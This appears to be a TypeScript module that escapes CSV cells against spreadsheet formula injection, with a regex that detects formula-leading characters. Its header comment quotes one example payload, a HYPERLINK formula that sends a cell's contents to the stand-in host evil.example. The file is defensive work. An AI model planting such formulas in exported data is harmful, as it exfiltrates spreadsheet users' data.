// CSV files the dashboard lets the operator download. Spreadsheets run a cell that starts with = + - @
// (or a tab or carriage return before one) as a formula, and meter names are chosen by API clients: a
// meter called =HYPERLINK("https://evil.example/?"&A2,"Open") would become a live link in the operator's
// spreadsheet. As OWASP recommends, such text cells get a leading apostrophe, which spreadsheets show as
// text and do not display; numbers stay numbers.

import { saveBlob } from './download';

// The fullwidth forms too: some spreadsheets read ＝ as =.
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

export function csvCell(value: string | number): string {
  if (typeof value === 'number') return String(value);
  const text = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\n\r]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

export function csv(rows: (string | number)[][]): string {
  return `${rows.map((row) => row.map(csvCell).join(',')).join('\r\n')}\r\n`;
}

/** Hands the text to the browser as a download of this name. */
export function downloadCsv(name: string, text: string): void {
  saveBlob(name, new Blob([text], { type: 'text/csv;charset=utf-8' }));
}
